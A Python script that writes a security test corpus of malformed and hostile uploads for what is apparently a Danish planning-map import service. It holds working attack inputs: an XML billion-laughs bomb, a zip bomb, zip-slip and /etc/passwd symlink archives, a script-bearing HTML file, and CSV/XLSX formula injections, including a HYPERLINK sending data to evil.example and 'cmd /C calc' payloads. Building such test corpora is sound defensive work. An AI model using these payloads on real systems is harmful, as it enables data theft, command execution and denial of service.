"""Writes the bad-input corpus (see README.md in this folder).

``python tests/security/corpus/make_corpus.py`` regenerates the committed
files; :func:`write_large` writes the big ones (10^6 vertices, 30 MB) at test
time into a temporary folder, so they are never committed.
"""

from __future__ import annotations

import io
import json
import math
import stat
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

#: A small area near Esbjerg (EPSG:4326), otherwise valid.
RING = [[8.66, 55.49], [8.70, 55.49], [8.70, 55.51], [8.66, 55.51], [8.66, 55.49]]


def _feature(geometry: object, **props: object) -> dict[str, object]:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def _fc(*features: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def _polygon(ring: list[list[float]]) -> dict[str, object]:
    return {"type": "Polygon", "coordinates": [ring]}


def _zip(entries: list[tuple[str, bytes]], *, symlink: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
        if symlink is not None:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


def _shp_header() -> bytes:
    # the 100-byte Shapefile header: file code 9994, version 1000, polygon (5)
    return (
        (9994).to_bytes(4, "big")
        + bytes(20)
        + (50).to_bytes(4, "big")
        + (1000).to_bytes(4, "little")
        + (5).to_bytes(4, "little")
        + bytes(64)
    )


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run in DOS mode."
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
HEADER = ["planid", "plannavn", "komnr", "anvgen", "status", "contact_name"]


def small_files() -> dict[str, bytes]:
    """File name -> content of every committed corpus file."""
    utm_ring = [[470000, 6150000], [471000, 6150000], [471000, 6151000], [470000, 6151000]]
    utm_ring.append(utm_ring[0])
    paris = [[2.30, 48.85], [2.35, 48.85], [2.35, 48.87], [2.30, 48.87], [2.30, 48.85]]
    bowtie = [[8.66, 55.49], [8.70, 55.51], [8.70, 55.49], [8.66, 55.51], [8.66, 55.49]]
    all_jutland = [[8.2, 54.9], [10.9, 54.9], [10.9, 57.5], [8.2, 57.5], [8.2, 54.9]]
    crs_unknown = {
        "type": "FeatureCollection",
        "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::9999"}},
        "features": [_feature(_polygon(RING), plannavn="x")],
    }
    nan = json.dumps(_feature(_polygon([[float("nan"), 55.49], *RING[1:]]))).encode()
    gml_laughs = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        + b"".join(
            f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
            for i in range(1, 10)
        )
        + b']>\n<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0">'
        + b"<x>&lol9;</x></wfs:FeatureCollection>\n"
    )
    latin1 = json.dumps(
        {"type": "FeatureCollection", "features": [_feature(_polygon(RING), plannavn="ÆØÅ")]},
        ensure_ascii=False,
    ).encode("latin-1")
    formula_rows = [
        ["9999999990", '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "0561", "31", "ledig", "A"],
        ["9999999991", "@SUM(1+1)*cmd|' /C calc'!A0", "0561", "31", "ledig", "B"],
        ["9999999992", "+1+cmd|' /C calc'!A0", "0561", "31", "ledig", "-2+3"],
    ]
    formula_csv = "\n".join(";".join(r) for r in [HEADER, *formula_rows]).encode()
    latin1_csv = "planid;plannavn;komnr\n9999999993;Ørkenområde Århus;0561\n".encode("latin-1")
    shp_entries = [("area.shp", _shp_header()), ("area.shx", _shp_header()), ("area.dbf", b"\x03")]
    return {
        "empty.geojson": b"",
        "whitespace_only.json": b"  \n\t \n",
        "truncated.geojson": _fc(_feature(_polygon(RING)))[:70],
        "not_geojson.json": b'{"hello": "world", "planid": 1}',
        "json_array.json": b"[1, 2, 3]",
        "point_not_polygon.geojson": _fc(_feature({"type": "Point", "coordinates": [8.6, 55.5]})),
        "wrong_crs_utm_no_crs_member.geojson": _fc(_feature(_polygon(utm_ring), plannavn="x")),
        "unknown_crs_member.geojson": json.dumps(crs_unknown).encode(),
        "outside_denmark_paris.geojson": _fc(_feature(_polygon(paris), plannavn="Paris")),
        "self_intersection_bowtie.geojson": _fc(_feature(_polygon(bowtie), plannavn="x")),
        "unclosed_ring.geojson": _fc(_feature(_polygon(RING[:-1]), plannavn="x")),
        "too_few_points.geojson": _fc(_feature(_polygon(RING[:2]), plannavn="x")),
        "nan_coordinates.geojson": nan,
        "deeply_nested.json": b'{"type": "Polygon", "coordinates": '
        + b"[" * 100_000
        + b"]" * 100_000
        + b"}",
        "area_too_large_jutland.geojson": _fc(_feature(_polygon(all_jutland), plannavn="x")),
        "features_not_objects.geojson": b'{"type": "FeatureCollection", "features": ["x"]}',
        "latin1_properties.geojson": latin1,
        "utf16_with_bom.geojson": b"\xff\xfe"
        + '{"type": "Feature", "properties": {}, "geometry": null}'.encode("utf-16-le"),
        "gml_billion_laughs.gml": gml_laughs,
        "zip_bomb.zip": _zip([("area.shp", bytes(60 * 1024 * 1024))]),
        "zip_slip.zip": _zip([("../../../../tmp/rl-zip-slip.shp", _shp_header())]),
        "zip_symlink.zip": _zip(shp_entries, symlink="area.prj"),
        "shapefile_missing_prj.zip": _zip(shp_entries),
        "elf_renamed.shp": ELF,
        "pe_renamed.geojson": PE,
        "elf_in_zip.zip": _zip([("area.shp", ELF), ("area.shx", b""), ("area.dbf", b"")]),
        "png_named.geojson": PNG,
        "html_named.pdf": b"<!doctype html><script>alert(1)</script>",
        "nul_bytes.txt": b"planid;plannavn\n\x00\x00\x00\x00evil\n",
        "latin1.csv": latin1_csv,
        "formula_injection.csv": formula_csv,
        "formula_injection.xlsx": _xlsx([HEADER, *formula_rows]),
        "broken.xlsx": b"PK\x03\x04" + b"\x14\x00broken sheet" + bytes(200),
        "xlsx_header_only.xlsx": _xlsx([HEADER]),
        "csv_header_only.csv": (";".join(HEADER) + "\n").encode(),
    }


def million_vertices() -> bytes:
    """One valid polygon in Denmark with 10^6 vertices (about 40 MB of GeoJSON)."""
    n = 1_000_000
    ring = [
        [
            round(8.68 + 0.02 * math.cos(2 * math.pi * i / n), 7),
            round(55.50 + 0.01 * math.sin(2 * math.pi * i / n), 7),
        ]
        for i in range(n)
    ]
    ring.append(ring[0])
    return _fc(_feature(_polygon(ring), plannavn="Million"))


def hole_filled(n_holes: int = 9_000) -> bytes:
    """One valid polygon near Esbjerg with ``n_holes`` tiny square holes (issue #20).

    About 0.8 MB; before the complexity limits it cost 25 s of CPU per
    anonymous screening request.
    """
    x0, y0, width, height = 8.60, 55.45, 0.20, 0.10
    cols = 120
    rows = math.ceil(n_holes / cols)
    dx, dy = width / (cols + 1), height / (rows + 1)
    side = min(dx, dy) * 0.2
    outer = [[x0, y0], [x0 + width, y0], [x0 + width, y0 + height], [x0, y0 + height], [x0, y0]]
    rings = [outer]
    for k in range(n_holes):
        cx, cy = round(x0 + dx * (k % cols + 1), 5), round(y0 + dy * (k // cols + 1), 5)
        cx1, cy1 = round(cx + side, 5), round(cy + side, 5)
        rings.append([[cx, cy], [cx, cy1], [cx1, cy1], [cx1, cy], [cx, cy]])
    return _fc(_feature({"type": "Polygon", "coordinates": rings}, plannavn="Huller"))


def two_million_rows_xlsx(rows: int = 2_000_000) -> bytes:
    """A valid workbook whose sheet has ``rows`` rows, deflated to under 1 MB (issue #20).

    Before the streaming readers it kept ``/kort/import`` busy 4-5 minutes (0.9 GB).
    """
    template = zipfile.ZipFile(io.BytesIO(_xlsx([HEADER])))
    head = ("".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADER)).encode()
    body = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * rows
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData><row>" + head + b"</row>" + body + b"</sheetData></worksheet>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for info in template.infolist():
            data = sheet if info.filename == "xl/worksheets/sheet1.xml" else template.read(info)
            zf.writestr(info.filename, data)
    return out.getvalue()


def write_large(target: Path) -> dict[str, Path]:
    """The corpus files too big to commit, written into ``target``."""
    target.mkdir(parents=True, exist_ok=True)
    files = {
        "million_vertices.geojson": million_vertices(),
        "hole_filled_9000.geojson": hole_filled(),
        "two_million_rows.xlsx": two_million_rows_xlsx(),
        "oversized_30mb.pdf": b"%PDF-1.7\n" + bytes(30 * 1024 * 1024),
    }
    paths = {}
    for name, data in files.items():
        paths[name] = target / name
        paths[name].write_bytes(data)
    return paths


def committed() -> dict[str, Path]:
    return {name: HERE / name for name in small_files()}


if __name__ == "__main__":
    for name, data in small_files().items():
        (HERE / name).write_bytes(data)
    print(f"{len(small_files())} files written to {HERE}")
